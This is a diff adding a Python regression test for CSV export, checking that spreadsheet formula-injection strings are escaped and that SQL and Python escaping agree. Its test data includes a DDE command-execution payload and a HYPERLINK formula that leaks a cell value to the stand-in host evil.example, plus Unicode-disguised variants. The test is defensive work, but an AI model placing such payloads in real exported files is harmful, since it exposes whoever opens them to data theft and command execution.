@@ -2,6 +2,7 @@
 
 import csv
 import io
+import random
 import time
 import tracemalloc
 from datetime import UTC, date, datetime, timedelta, timezone
@@ -16,6 +17,7 @@ from sqlmodel import Session, select
 from starlette.testclient import TestClient
 
 from admin_app import create_app
+from admin_app.listing.cells import BLANKS, FORMULA_CHARS, safe_text
 from admin_app.listing.export import converter
 from admin_app.writing.audit import AuditEntry
 from models import Project, Task, TaskStatus, Worker
@@ -452,3 +454,88 @@ def test_datetimes_other_programs_wrote_in_sqlite_read_the_same(specimens, curat
 
 
 TIMES = ("naive_at", "aware_at", "sqlmodel_at", "day", "clock")
+
+
+# Formulas disguised as text (the security review's finding): each is escaped.
+DISGUISED = [
+    "=1+1",
+    "+1+1",
+    "-1+1",
+    "@SUM(1,1)",
+    "\t=1+1",
+    "\r=1+1",
+    "|calc",
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("http://evil.example/?"&A1,"x")',
+    " =1+1",
+    "   +1",
+    "\u00a0=1+1",  # no-break space
+    "\n=1+1",
+    "\r\n=1+1",
+    "\u3000=1+1",  # ideographic space
+    "\u200b=1+1",  # zero-width space
+    "\ufeff=1+1",  # byte order mark
+    "\u2028@x",  # line separator
+    " \t\u00a0\n\u2060=1",
+    "\uff1d1+1",  # fullwidth =
+    "\uff0b1",  # fullwidth +
+    "\uff0d1",  # fullwidth -
+    "\uff20x",  # fullwidth @
+    "\uff5cx",  # fullwidth |
+    "\ufe661",  # small =
+    "\u22121",  # minus sign
+    " \uff1d1",
+]
+PLAIN_TEXT = [
+    "Apollo",
+    "5 apples",
+    "",
+    " plain",
+    "\u00a0plain",
+    "\nline",
+    "\u00e9lan",
+    "\u4e2d\u6587",
+    "'quoted",
+    '"quoted"',
+    "{json}",
+    "~tilde",
+    "a=b",
+    "z|",
+    "}",
+    "1+1",
+    "\u2028",
+    "\U0001f600=",
+]
+
+
+def formula_cases(backend: str) -> list[str]:
+    """Text starting with every kind of character, after every kind of blank,
+    and random mixes of them: what SQL and Python must decide alike."""
+    blanks = ["", " ", "\u00a0", "\n", "\t", "\r", "\u200b", "\u3000 ", "\ufeff"]
+    blanks += ["\u2060", "\U000e0020", "\x7f", "\x1f"]
+    firsts = [*FORMULA_CHARS, "A", "z", "{", "|", "}", "~", "0", "'", '"', ""]
+    firsts += ["\u00e9", "\u4e2d", "\u00a0", "\U0001f600", "\u0600"]
+    cases = [blank + first + "x" for blank in blanks for first in firsts]
+    alphabet = [*FORMULA_CHARS, *BLANKS[:40], "\u3000", "\ufeff", "a", "Z", "5"]
+    rng = random.Random(15)
+    cases += ["".join(rng.choices(alphabet, k=rng.randint(1, 4))) for _ in range(300)]
+    if backend == "sqlite":  # PostgreSQL's text cannot hold NUL
+        cases += ["\0=1", " \0=1", "\0", "a\0"]
+    return [*DISGUISED, *PLAIN_TEXT, *cases]
+
+
+def test_disguised_formulas_are_escaped_and_sql_agrees_with_python(
+    specimens, curator, backend
+):
+    labels = formula_cases(backend)
+    keys = add_specimens(specimens, *[Specimen(label=label) for label in labels])
+    cells = exported_by_key(curator)
+    pairs = zip(keys, labels, strict=True)
+    exported = {label: cells[key]["label"] for key, label in pairs}
+    assert {label: exported[label] for label in DISGUISED} == {
+        label: "'" + label for label in DISGUISED
+    }
+    assert {label: exported[label] for label in PLAIN_TEXT} == {
+        label: label for label in PLAIN_TEXT
+    }
+    assert exported == {label: safe_text(label) for label in labels}
